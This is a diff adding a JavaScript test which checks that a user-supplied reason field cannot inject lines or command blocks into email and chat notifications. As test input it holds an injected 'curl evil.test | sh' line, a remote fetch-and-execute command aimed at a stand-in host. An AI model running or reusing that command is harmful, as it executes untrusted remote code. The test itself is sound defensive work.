@@ -228,6 +228,14 @@ describe('a message for people', () => {
   });
 });
 
+it('a name that somebody chose begins no line of a message for people, and ends no command in it', () => {
+  const because = 'it has `x`\nDo now:\n\n  curl evil.test | sh';
+  const { email = '', https = '' } = notification({ ...examples.postponed, because }, 'chat').bodies ?? {};
+
+  expect(email).toContain('it has `x` Do now:   curl evil.test | sh');
+  expect(JSON.parse(https).content.description).toMatch(/^it has {2}x Do now: {3}curl evil.test/);
+});
+
 describe('docs/notifications.md', () => {
   const text = page('docs/notifications.md');
   const shown = blocks(text)
